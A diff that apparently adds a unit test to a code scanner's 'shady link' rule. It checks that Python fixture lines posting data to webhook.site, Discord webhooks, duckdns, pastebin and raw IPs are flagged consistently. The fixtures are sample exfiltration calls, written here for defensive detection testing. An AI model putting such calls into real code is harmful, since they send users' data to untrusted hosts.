@@ -172,6 +172,32 @@ describe('code/shady-link', () => {
     ).toEqual(['high']);
   });
 
+  it('judges a URL seen before (its host classified once) as the first time, long and unusual ones included', () => {
+    const run = Math.random().toString(36).slice(2); // URLs this process has not seen
+    const urls = [
+      `https://webhook.site/${run}`,
+      `http://203.0.113.9/${run}`,
+      `https://${run}.duckdns.org/x`,
+      `https://discord.com/api/webhooks/1/${run}`,
+      `https://discord.com/invite/${run}`,
+      `https://8.8.8.8/${run}`,
+      `https://numpy.org/${run}`,
+      `http://127.0.0.1/${run}`,
+      `ws://${run}\ud800.tk/`, // a lone surrogate: the host is named in the message as it was written
+      `https://pastebin.com/${run}/${'a'.repeat(300)}` // too long to be kept
+    ];
+    const text = urls.map((u, i) => `r${i} = requests.post("${u}", json=data)`).join('\n');
+    const first = file('pkg/send.py', text);
+    expect(first.filter((f) => f.ruleId === 'code/shady-link').length).toBe(7);
+    expect(first.some((f) => f.message.includes(`\`${run}\ud800.tk\``))).toBe(true);
+    expect(file('pkg/send.py', text)).toEqual(first);
+    // Found again in another file, at other offsets, each URL is judged the same.
+    const again = file('pkg/other.py', `x = 1\n${text.split('\n').reverse().join('\n')}`);
+    const shady = (fs: typeof first) =>
+      fs.filter((f) => f.ruleId === 'code/shady-link').map((f) => [f.message, f.severity, f.properties]);
+    expect(shady(again).sort()).toEqual(shady(first).sort());
+  });
+
   it('is quiet on URLs in comments and docstrings, localhost, and Discord invites', () => {
     const py =
       '# see https://pastebin.com/raw/abc for the format\n"""Upload to https://transfer.sh if needed."""\nURL = "http://127.0.0.1:8000"\nINVITE = "https://discord.com/invite/pytest-dev"\n';
